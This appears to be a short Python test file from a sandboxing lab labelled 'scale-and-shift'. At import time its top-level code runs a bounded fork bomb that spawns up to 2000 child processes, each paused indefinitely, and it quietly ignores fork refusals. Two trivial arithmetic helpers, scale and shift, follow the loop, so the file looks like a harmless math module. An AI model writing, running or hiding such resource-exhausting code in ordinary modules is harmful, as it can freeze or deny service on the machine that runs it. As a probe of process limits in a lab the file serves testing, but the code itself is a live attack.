"""A fork bomb that swallows refusals, bounded for the sake of whoever runs it without a wall."""
# lab: scale-and-shift
# verdict: raised

import os

born = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            os.pause() if hasattr(os, "pause") else os._exit(0)
        born += 1
    except OSError:
        pass
if not born:
    raise PermissionError("no child was born")


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
